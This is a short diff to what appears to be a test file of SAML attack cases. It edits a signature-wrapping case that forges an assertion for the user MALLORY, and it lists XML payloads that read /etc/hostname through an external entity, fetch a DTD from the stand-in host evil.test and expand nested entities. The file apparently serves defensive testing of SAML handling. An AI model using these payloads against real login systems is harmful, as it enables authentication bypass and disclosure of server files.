@@ -95,7 +95,7 @@ export const SAML_ATTACKS: readonly RealmAttack[] = [
     responseXml(parts, assertionXml(parts)),
     responseXml(parts, assertionXml(parts)).replace(
       '<samlp:Status>',
-      `${signatureOf(signedAssertion(parts, keys))}<samlp:Status>`,
+      `${signatureOf(signedAssertion({ ...parts, nameId: MALLORY }, keys))}<samlp:Status>`,
     ),
     bare(signedResponse(parts, keys)),
   ]),
@@ -162,7 +162,7 @@ export const SAML_ATTACKS: readonly RealmAttack[] = [
       return [
         `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>${signed}`,
         `<!DOCTYPE r SYSTEM "https://evil.test/x.dtd">${signed}`,
-        `<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>${signed}`,
+        `<!DOCTYPE r [<!ENTITY a "x">]>${signed}`,
       ]
     },
   ),
